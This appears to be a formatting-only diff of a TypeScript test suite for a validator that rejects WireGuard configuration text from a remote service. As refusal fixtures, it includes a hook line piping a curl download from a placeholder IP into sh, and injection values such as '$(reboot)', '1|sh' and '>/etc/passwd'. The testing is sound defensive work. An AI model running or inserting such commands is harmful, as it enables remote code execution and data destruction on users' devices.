@@ -77,28 +77,27 @@ describe('a text', () => {
     });
   });
 
-  test.each([
-    ['localhost:51820'],
-    ['127.0.0.1:51820'],
-    ['[::1]:51820'],
-    ['[::ffff:127.0.0.1]:51820'],
-  ])('may lead to %s only where the service is there too', (endpoint) => {
-    const text = toIssuedText({ Endpoint: `Endpoint = ${endpoint}` });
-    expect(toRefusal(text)).toMatch(/Endpoint/);
-    if (!endpoint.includes('ffff')) expect(parse(text, {}, true).peer.endpoint.port).toBe(51_820);
-  });
+  test.each([['localhost:51820'], ['127.0.0.1:51820'], ['[::1]:51820'], ['[::ffff:127.0.0.1]:51820']])(
+    'may lead to %s only where the service is there too',
+    (endpoint) => {
+      const text = toIssuedText({ Endpoint: `Endpoint = ${endpoint}` });
+      expect(toRefusal(text)).toMatch(/Endpoint/);
+      if (!endpoint.includes('ffff')) expect(parse(text, {}, true).peer.endpoint.port).toBe(51_820);
+    },
+  );
 });
 
 describe('a text is refused', () => {
   const hooks = ['PreUp', 'PostUp', 'PreDown', 'PostDown', 'SaveConfig', 'Table', 'FwMark'];
 
-  test.each(
-    hooks.flatMap((hook) => [hook, hook.toLowerCase(), hook.toUpperCase()]),
-  )('that holds %s, in either section', (hook) => {
-    expect(toRefusal(withLine(`${hook} = off`))).toContain('would change this device');
-    expect(toRefusal(inPeer(`${hook}=true`))).toContain(hook);
-    expect(toRefusal(withLine(`${hook} = curl http://198.51.100.9/x|sh`))).not.toContain('curl');
-  });
+  test.each(hooks.flatMap((hook) => [hook, hook.toLowerCase(), hook.toUpperCase()]))(
+    'that holds %s, in either section',
+    (hook) => {
+      expect(toRefusal(withLine(`${hook} = off`))).toContain('would change this device');
+      expect(toRefusal(inPeer(`${hook}=true`))).toContain(hook);
+      expect(toRefusal(withLine(`${hook} = curl http://198.51.100.9/x|sh`))).not.toContain('curl');
+    },
+  );
 
   test.each<[string, string, string]>([
     ['an empty text', '', 'no [Interface]'],
@@ -125,9 +124,24 @@ describe('a text is refused', () => {
     ['a letter that only looks Latin', withLine('# \u0430'), 'characters that no'],
     ['16 KiB and one', `${toIssuedText()}\n#${'x'.repeat(16 * 1024)}`, '16 KiB'],
     ['megabytes', `${toIssuedText()}\n${'# x\n'.repeat(2 ** 20)}`, '16 KiB'],
-    ...['$(reboot)', '`reboot`', '1;reboot', '1|sh', '1&&reboot', '>/etc/passwd', "'x'", '"x"', '\\x', '%i', '~', '*'].map(
-      (value): [string, string, string] => [`the value ${value}`, withLine(`DNS = ${value}`), 'characters that no'],
-    ),
+    ...[
+      '$(reboot)',
+      '`reboot`',
+      '1;reboot',
+      '1|sh',
+      '1&&reboot',
+      '>/etc/passwd',
+      "'x'",
+      '"x"',
+      '\\x',
+      '%i',
+      '~',
+      '*',
+    ].map((value): [string, string, string] => [
+      `the value ${value}`,
+      withLine(`DNS = ${value}`),
+      'characters that no',
+    ]),
   ])('with %s', (_, text, why) => {
     expect(toRefusal(text)).toContain(why);
   });
@@ -275,7 +289,20 @@ test.each<[string, Partial<IssuedTunnel>]>([
 
 describe('whatever the service sends', () => {
   const words = fc.constantFrom(
-    ...['[Interface]', '[Peer]', 'PrivateKey', 'Address', 'Endpoint', 'AllowedIPs', 'MTU', 'PostUp', '=', ' ', '\n', '\r'],
+    ...[
+      '[Interface]',
+      '[Peer]',
+      'PrivateKey',
+      'Address',
+      'Endpoint',
+      'AllowedIPs',
+      'MTU',
+      'PostUp',
+      '=',
+      ' ',
+      '\n',
+      '\r',
+    ],
     ...[other, clientKeys.privateKey, '10.0.0.1', '::1', '[', ']', ':', '/', ',', '#', '%eth0', '51820', '0.0.0.0/0'],
   );
   const texts = fc.oneof(
